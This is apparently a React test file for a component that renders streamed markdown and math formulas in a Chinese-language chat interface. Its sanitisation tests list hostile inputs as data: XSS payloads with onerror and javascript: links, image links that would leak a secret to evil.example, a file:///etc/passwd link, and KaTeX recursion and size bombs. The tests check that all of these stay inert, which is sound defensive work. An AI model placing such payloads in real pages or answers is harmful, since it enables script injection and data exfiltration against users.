import { render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import type * as ReactMarkdown from 'react-markdown';
import { Bare } from '../../../../testing/renderScreen';
import { AnswerBody } from './AnswerBody';

const mockLayouts: string[] = [];
let mockBroken = false;
jest.mock('react-markdown', () => {
  const original = jest.requireActual<typeof ReactMarkdown>('react-markdown');
  return {
    ...original,
    __esModule: true,
    default: (props: Parameters<typeof original.default>[0]) => {
      mockLayouts.push(String(props.children));
      if (mockBroken) throw new RangeError('Maximum call stack size exceeded');
      return original.default(props);
    },
  };
});

const body = (text: string, growing = false) => (
  <Bare>
    <AnswerBody id="a" text={text} growing={growing} />
  </Bare>
);
const show = (text: string, growing = false) => render(body(text, growing));

beforeEach(() => mockLayouts.splice(0));

describe('a streamed answer', () => {
  it('lays out each finished block once, however often text comes', () => {
    const blocks = Array.from({ length: 12 }, (_, n) => `第${n}段，内容**${n}**。`);
    const text = blocks.join('\n\n');
    const view = show('', true);
    for (let at = 1; at <= text.length; at += 3) view.rerender(body(text.slice(0, at), true));
    view.rerender(body(text));
    for (const [n, block] of blocks.entries()) {
      expect(screen.getByText(`第${n}段，内容。`)).toBeInTheDocument();
      // Once complete, and once more when it turned out that nothing follows in it.
      expect(mockLayouts.filter((source) => source.trimEnd() === block).length).toBeLessThanOrEqual(2);
    }
    mockLayouts.splice(0);
    view.rerender(body(`${text}\n\n最后一段`, true));
    expect(mockLayouts.filter((source) => source.includes('第3段') || source.includes('第9段'))).toEqual([]);
  });

  it('keeps the elements of a finished block', () => {
    const view = show('# 标题\n\n一段。\n\n二段。\n\n三', true);
    const first = screen.getByText('一段。');
    view.rerender(body('# 标题\n\n一段。\n\n二段。\n\n三段与更多的字。\n\n四段', true));
    expect(screen.getByText('一段。')).toBe(first);
  });

  it('has headings below those of the page, tables that scroll and lists', () => {
    show('# 一级\n\n- 甲\n- [x] 乙\n\n| 列 |\n| --- |\n| 值 |');
    expect(screen.getByRole('heading', { name: '一级', level: 3 })).toBeInTheDocument();
    expect(within(screen.getByRole('region', { name: '表格' })).getByRole('cell', { name: '值' })).toBeInTheDocument();
    expect(screen.getByRole('img', { name: '已完成' })).toBeInTheDocument();
  });

  it('resolves a link whose definition comes in a later block', () => {
    show('见[综述][s]。\n\n第二段\n\n[s]: https://example.org/s');
    expect(screen.getByRole('link', { name: '综述' })).toHaveAttribute('href', 'https://example.org/s');
  });
});

describe('formulas', () => {
  it('are set when complete, and shown neither raw nor as a placeholder before', async () => {
    const view = show('能量 $E=mc', true);
    expect(view.container).toHaveTextContent(/^能量$/);
    view.rerender(body('能量 $E=mc^2$ 守恒', true));
    await waitFor(() => expect(view.container.querySelector('.katex')).not.toBeNull());
    expect(view.container.querySelector('annotation')).toHaveTextContent('E=mc^2');
  });

  it.each([
    '$\\htmlData{onclick=alert(1)}{x}$',
    '$\\href{javascript:alert(1)}{x}$',
    '$\\url{javascript:alert(1)}$',
    '$\\includegraphics{https://evil.example/x.png}$',
    '$\\def\\a{\\a\\a}\\a$',
    `$${'{'.repeat(3000)}$`,
    `$$${'{'.repeat(3900)}$$`,
    `\n\n$$\n${'{'.repeat(1900)}x${'}'.repeat(1900)}\n$$\n\n`,
    `$$${'\\frac{'.repeat(500)}$$`,
    `$$${'x_{'.repeat(1000)}$$`,
    `$$${'x₁²'.repeat(1000)}$$`,
    `$x${'₀'.repeat(500)}$`,
    '$$\\def\\a{\\a\\a}\\a$$',
    '$$\\newcommand{\\a}{x\\b}\\newcommand{\\b}{\\a\\a}\\a$$',
    '$$\\kern{1000000em}\\hspace{1000000em}\\raisebox{1000000em}{x}$$',
    '$\\rule{1000000em}{1000000em}$',
    '$\\frac{<img src=x onerror=alert(1)>}$',
    '$\\unknown<svg onload=alert(1)>$',
  ])('of the hostile kind stay inert: %s', async (text) => {
    const { container } = show(`公式 ${text} 之后`);
    await waitFor(() => expect(container).not.toHaveTextContent('⋯'));
    expect(container.querySelector('img, svg[onload], a, [onclick], [data-onclick], script')).toBeNull();
    expect(container).toHaveTextContent('之后');
    for (const element of container.querySelectorAll<HTMLElement>('[style]')) {
      expect(parseFloat(element.style.width || '0')).toBeLessThan(100);
      expect(parseFloat(element.style.height || '0')).toBeLessThan(100);
    }
  });
});

describe('a formula that cannot be read', () => {
  it.each([
    ['$\\frac{<img src=x onerror=alert(1)>$', '\\frac{<img src=x onerror=alert(1)>'],
    ['$$\\undefined{<svg onload=alert(1)>}$$', '\\undefined{<svg onload=alert(1)>}'],
    ['$\\text{"><script>alert(1)</script>$', '\\text{"><script>alert(1)</script>'],
    ['$\\begin{x}&lt;iframe srcdoc=1&gt;$', '\\begin{x}&lt;iframe srcdoc=1&gt;'],
  ])('%s is shown as the characters that it is', async (text, shown) => {
    const { container } = show(`前文 ${text} 后文`);
    await waitFor(() => expect(container).not.toHaveTextContent('⋯'));
    expect(container.textContent).toContain(shown);
    expect(container.querySelector('img, svg[onload], script, iframe')).toBeNull();
    for (const element of container.querySelectorAll('*')) {
      expect(
        [...element.attributes].filter(({ name, value }) => name.startsWith('on') || /<\w/.test(name + (name === 'title' ? '' : value))),
      ).toEqual([]);
    }
  });
});

describe('hostile text', () => {
  const fetched = jest.fn(() => Promise.reject(new Error('no request may leave')));
  const opened = jest.fn();
  beforeEach(() => {
    fetched.mockClear();
    opened.mockClear();
    globalThis.fetch = fetched as unknown as typeof fetch;
    window.alert = opened;
  });

  it.each([
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)></svg>',
    '<svg><image href="https://evil.example/x"></image></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>@import url(https://evil.example/x.css)</style>',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=a></form>',
    '<a id=config href="https://evil.example">x</a>',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<script>alert(1)</script>',
    '<sub onclick=alert(1)>x</sub>',
    '![x](https://evil.example/?q=SECRET)',
    '![x][ref]\n\n[ref]: https://evil.example/?q=SECRET',
    '[![x](https://evil.example/pixel.png)](https://evil.example)',
    '<https://evil.example/x.png>',
  ])('%s loads nothing and runs nothing', (text) => {
    const { container } = show(`前文\n\n${text}\n\n后文`);
    const forbidden = 'img, picture, source, image, svg, iframe, style, base, form, script, object, embed, video, link, input, meta';
    expect(container.querySelector(forbidden)).toBeNull();
    // React hoists what it preloads into the head.
    expect(document.head.querySelector('link, style[href], base, script')).toBeNull();
    for (const element of container.querySelectorAll('*')) {
      expect([...element.attributes].filter(({ name }) => name.startsWith('on') || name === 'id' || name === 'style')).toEqual([]);
    }
    expect(container).toHaveTextContent('后文');
    expect(fetched).not.toHaveBeenCalled();
    expect(opened).not.toHaveBeenCalled();
  });

  it('shows HTML as the characters that it is, but for line breaks and small pairs', () => {
    const { container } = show('a <img src=x> b H<sub>2</sub>O<br>c <sub>d');
    expect(container).toHaveTextContent('a <img src=x> b H2Oc <sub>d');
    expect(container.querySelector('sub')).toHaveTextContent(/^2$/);
    expect(container.querySelectorAll('br')).toHaveLength(1);
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '<javascript:alert(1)>',
    '[x][r]\n\n[r]: javascript:alert(1)',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x)',
    '[x](//evil.example)',
    '[x](/\\evil.example)',
    '[x](file:///etc/passwd)',
    '[x](/home)',
    '![x](javascript:alert(1))',
  ])('%s is no link', (text) => {
    show(text);
    expect(screen.queryByRole('link')).toBeNull();
  });

  it.each(['[x](https://example.org/a)', '<https://example.org/a>', 'https://example.org/a', '![图](https://example.org/a)'])(
    '%s opens elsewhere and says where to',
    (text) => {
      show(text);
      const link = screen.getByRole('link');
      expect(link).toHaveAttribute('href', 'https://example.org/a');
      expect(link).toHaveAttribute('rel', 'noopener noreferrer');
      expect(link).toHaveAttribute('target', '_blank');
      expect(link).toHaveAttribute('title', '在新窗口打开外部网站 example.org');
    },
  );
});

describe('anchors inside an answer', () => {
  it('scroll and never change the address', async () => {
    const user = userEvent.setup({ delay: null });
    const scrolled = jest.spyOn(HTMLElement.prototype, 'scrollIntoView');
    window.location.hash = '#/agent?chat=1';
    show('# 方法\n\n正文[^1]与[见方法](#方法)、[登出](#/home)。\n\n[^1]: 脚注文字');
    for (const anchor of screen.getAllByRole('button')) await user.click(anchor);
    expect(screen.queryAllByRole('link')).toEqual([]);
    expect(window.location.hash).toBe('#/agent?chat=1');
    // The footnote and the way back; jsdom has no `innerText`, so the heading is found in the browser journey.
    expect(scrolled.mock.instances.length).toBeGreaterThanOrEqual(2);
    expect(screen.getByText('脚注文字', { exact: false })).toBeInTheDocument();
  });

  it('lead each to its own target: contents to headings, footnotes there and back', async () => {
    // jsdom has no layout and therefore no `innerText`.
    Object.defineProperty(HTMLElement.prototype, 'innerText', {
      configurable: true,
      get(this: HTMLElement) {
        return this.textContent;
      },
    });
    const user = userEvent.setup({ delay: null });
    const moved = jest.fn();
    window.location.hash = '#/home/searchHistory?tab=chats';
    await new Promise((resolve) => setTimeout(resolve, 0));
    window.addEventListener('hashchange', moved);
    show(
      '- [方法](#方法)\n- [Main results](#main-results)\n- [编码](#%E6%96%B9%E6%B3%95)\n- [缺失](#nowhere)\n\n# 方法\n\n甲[^a]乙[^b]。\n\n## Main results\n\n丙。\n\n[^a]: 脚注一\n[^b]: 脚注二',
    );
    const lands = async (name: string) => {
      await user.click(screen.getByRole('button', { name }));
      return document.activeElement?.textContent?.replace(/\s+/g, ' ').trim();
    };
    expect(await lands('方法')).toBe('方法');
    expect(await lands('Main results')).toBe('Main results');
    expect(await lands('编码')).toBe('方法');
    expect(await lands('1')).toContain('脚注一');
    expect(await lands('2')).toContain('脚注二');
    expect(await lands('缺失')).toBe('缺失');
    for (const back of screen.getAllByRole('button', { name: /↩/ })) await user.click(back);
    await new Promise((resolve) => setTimeout(resolve, 0));
    expect(window.location.hash).toBe('#/home/searchHistory?tab=chats');
    expect(moved).not.toHaveBeenCalled();
    window.removeEventListener('hashchange', moved);
    Reflect.deleteProperty(HTMLElement.prototype, 'innerText');
  });
});

describe('text that cannot be laid out', () => {
  it.each([
    ['nested lists', `${'- '.repeat(1500)}x`],
    ['nested quotes', `${'> '.repeat(2000)}x`],
    ['two thousand columns', `${'|a'.repeat(2000)}|\n${'|-'.repeat(2000)}|\n`],
    ['open brackets', '['.repeat(5000)],
  ])('%s is shown as plain text', (_name, text) => {
    const { container } = show(`前文。\n\n${text}`);
    expect(screen.getByText('内容过大或嵌套过深，以纯文本显示')).toBeInTheDocument();
    expect(container.querySelector('pre')).toHaveTextContent(text.trim().slice(0, 50));
  });

  it('two million characters show their beginning and say so', () => {
    show('字'.repeat(2_000_000));
    expect(screen.getByText(/以纯文本显示前 200,000 个字符/)).toBeInTheDocument();
  });

  it('a block that throws leaves the page alone', () => {
    const silenced = jest.spyOn(console, 'error').mockImplementation(() => undefined);
    mockBroken = true;
    show('正文[1]。');
    mockBroken = false;
    silenced.mockRestore();
    expect(screen.getByText('内容过大或嵌套过深，以纯文本显示')).toBeInTheDocument();
    expect(screen.getByText('正文[1]。')).toBeInTheDocument();
  });
});
